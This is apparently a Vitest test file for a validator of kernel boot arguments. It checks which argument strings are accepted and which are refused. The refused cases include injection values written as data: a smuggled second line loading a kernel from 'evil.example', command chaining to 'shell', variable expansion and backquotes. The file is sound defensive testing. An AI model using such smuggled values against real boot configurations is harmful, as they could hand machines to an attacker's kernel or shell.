import { describe, expect, it } from 'vitest';
import { splitKernelArguments, whyNoKernelArguments } from '../../src/domain/kernel-arguments.ts';

describe('kernel arguments that may be written', () => {
  it.each([
    '',
    'nofb vga=normal',
    'console=ttyS0,115200n8 quiet  ro',
    'ipa-api-url=http://[2001:db8::1]:6385/x?a=b&c=d',
    'ds=nocloud;s=http://192.0.2.1/seed/',
    'systemd.unit=rescue.target 8250.nr_uarts=4',
    'BOOTIF=52:54:00:00:00:01',
    'ip=',
    'a=#x',
    'x=a||b',
  ])('%j', (text) => expect(whyNoKernelArguments(text)).toBeNull());
});

describe('kernel arguments that would be more than arguments', () => {
  it.each([
    ['a second line', 'quiet\nkernel http://evil.example/'],
    ['a second line of old', 'quiet\rboot'],
    ['a tabulator', 'quiet\tinit=/x'],
    ['a variable', 'a=${net0/mac}'],
    ['a dollar', 'a=$x'],
    ['an or', 'quiet || shell'],
    ['an and', 'quiet && shell'],
    ['a comment', 'quiet #rest'],
    ['a quote', "a='b"],
    ['a double quote', 'a="b c"'],
    ['a backslash', 'a=b\\'],
    ['a backquote', 'a=`x`'],
    ['a key that begins as an option', '--name x'],
    ['a value without a key', '=x'],
    ['what is not printable', 'a=\u0000'],
    ['what is not ASCII', 'a=ä'],
    ['a wide space', 'a\u00a0b'],
    ['too many', 'a=1 '.repeat(600)],
  ])('%s is refused', (_what, text) => expect(whyNoKernelArguments(text)).toEqual(expect.any(String)));
});

it('are divided by spaces, however many', () => {
  expect(splitKernelArguments('  a  b=c ')).toEqual(['a', 'b=c']);
});
